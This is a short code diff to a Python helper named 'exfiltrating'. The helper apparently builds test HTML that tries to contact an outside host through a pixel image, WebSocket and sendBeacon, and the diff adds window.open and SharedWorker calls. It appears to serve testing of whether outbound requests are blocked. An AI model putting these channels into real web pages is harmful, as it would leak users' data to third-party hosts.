@@ -84,6 +84,8 @@ def exfiltrating(title: str, metadata: str, other: str) -> str:
         f"new Image().src = '{other}/pixel.gif';"
         f"try {{ new WebSocket('{other.replace('http', 'ws')}/socket'); }} catch (e) {{}}"
         f"navigator.sendBeacon && navigator.sendBeacon('{other}/beacon', 'x');"
+        f"window.open('{other}/popup');"
+        f"try {{ new SharedWorker('{other}/shared.js'); }} catch (e) {{}}"
         "</script></body>",
     )
 
